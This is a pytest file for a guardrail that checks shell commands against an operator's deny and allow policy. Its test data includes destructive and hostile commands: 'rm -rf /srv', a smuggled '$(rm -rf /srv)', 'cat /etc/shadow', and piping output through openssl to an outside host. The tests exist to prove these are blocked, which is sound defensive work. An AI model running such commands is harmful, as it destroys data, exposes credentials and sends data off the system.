"""The operator's policy: deny wins, unreadable denies, allow never passes harm."""

from pathlib import Path

import pytest

from worker.guardrails.pipeline import DecisionVerdict, decide
from worker.guardrails.policy import Policy, load_policy


def policy(folder: Path, text: str) -> Policy:
    file = folder / "policy.yaml"
    file.write_text(text)
    return load_policy(file)


def test_a_denied_pattern_beats_a_proven_command(tmp_path: Path) -> None:
    rules = policy(tmp_path, "deny: ['kubectl get pods *']")

    decision = decide("kubectl get pods -n pay", policy=rules)

    assert (decision.verdict, decision.layer) == (DecisionVerdict.DENY, "operator_deny")
    assert "kubectl get pods *" in decision.reason


@pytest.mark.parametrize(
    "command", ["ls | kubectl get x", "echo $(kubectl get x)", "k'ubectl' get x", "kubectl get x &"]
)
def test_a_denied_pattern_is_found_at_every_depth(command: str, tmp_path: Path) -> None:
    assert decide(command, policy=policy(tmp_path, "deny: ['kubectl *']")).layer == "operator_deny"


def test_an_allowed_pattern_needs_no_judge(tmp_path: Path) -> None:
    rules = policy(tmp_path, "allow: ['frob --status*', 'kubectl rollout restart *']")

    assert decide("frob --status web | grep up", policy=rules).is_allowed
    assert decide("kubectl rollout restart deploy/x", policy=rules).layer == "operator_allow"
    assert not decide("frob --kill web", policy=rules).is_allowed


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /srv",
        "frob $(rm -rf /srv)",
        "frob > /tmp/x",
        "A=1 frob x",
        "frob x & ",
        "frob x | unknown",
        "frob $X",
        "cat /etc/shadow",
    ],
)
def test_an_allowance_never_passes_harm_or_what_is_not_known(command: str, tmp_path: Path) -> None:
    rules = policy(tmp_path, "allow: ['frob *', 'rm *', 'cat *']")

    assert not decide(command, policy=rules).is_allowed


@pytest.mark.parametrize(
    "text", ["deny: [", "deny: 5", "permit: []", "[]", "deny: ['']", "deny: ['* * * * * *']", "\x00"]
)
def test_a_bad_policy_denies_every_command(text: str, tmp_path: Path) -> None:
    decision = decide("ls", policy=policy(tmp_path, text))

    assert (decision.verdict, decision.layer) == (DecisionVerdict.DENY, "operator_deny")
    assert "cannot be read" in decision.reason


def test_a_missing_policy_file_denies_every_command(tmp_path: Path) -> None:
    assert not decide("ls", policy=load_policy(tmp_path / "none.yaml")).is_allowed


def test_no_policy_file_is_an_empty_policy() -> None:
    assert decide("ls", policy=load_policy(None)).is_allowed


def test_the_version_follows_the_content(tmp_path: Path) -> None:
    first = policy(tmp_path, "deny: [a]").version

    assert policy(tmp_path, "deny: [b]").version != first
    assert policy(tmp_path, "deny: [a]").version == first


PATHS = """
deny: ['kubectl logs *']
allow: ['frob']
paths:
  /team/pay:
    deny: ['kubectl get nodes*']
    allow: ['frob --deep', 'kubectl logs *']
"""


def test_a_path_has_its_own_rules_and_those_above_it(tmp_path: Path) -> None:
    rules = policy(tmp_path, PATHS)

    assert decide("kubectl get nodes", policy=rules).is_allowed
    for path in ("/team/pay", "/team/pay/api"):
        own = rules.for_path(path)
        assert decide("kubectl get nodes", policy=own).layer == "operator_deny"
        assert decide("frob --deep", policy=own).layer == "operator_allow"
        assert decide("frob", policy=own).is_allowed
    assert not decide("frob --deep", policy=rules.for_path("/team/payroll")).is_allowed


def test_no_path_may_allow_what_is_denied_above_it(tmp_path: Path) -> None:
    own = policy(tmp_path, PATHS).for_path("/team/pay")

    assert decide("kubectl logs x", policy=own).layer == "operator_deny"


def test_a_fault_says_where_it_is(tmp_path: Path) -> None:
    fault = policy(tmp_path, "deny: []\npaths:\n  /team:\n    denny: [x]\n").fault

    assert fault
    assert "policy.yaml: line 4: paths./team.denny" in fault


def test_a_bad_rule_file_denies_every_command(tmp_path: Path) -> None:
    (tmp_path / "x.yaml").write_text("programs: {ls: {}}")

    decision = decide("ls", policy=load_policy(None, tmp_path))

    assert (decision.verdict, decision.layer) == (DecisionVerdict.DENY, "operator_deny")


def test_an_operators_program_is_allowed_by_rules_and_changes_the_version(tmp_path: Path) -> None:
    (tmp_path / "x.yaml").write_text("programs: {frob: {flags: --status}}")
    rules = load_policy(None, tmp_path)

    assert decide("frob --status | wc -l", policy=rules).layer == "rules"
    assert decide("frob --status | wc -l", policy=rules).is_allowed
    assert rules.version != load_policy(None).version


def test_an_allowed_command_passes_nothing_on_to_a_sender(tmp_path: Path) -> None:
    rules = policy(tmp_path, "allow: ['frob']")

    assert not decide("frob | openssl s_client -connect x.example:443", policy=rules).is_allowed
    assert decide("frob | grep x", policy=rules).is_allowed
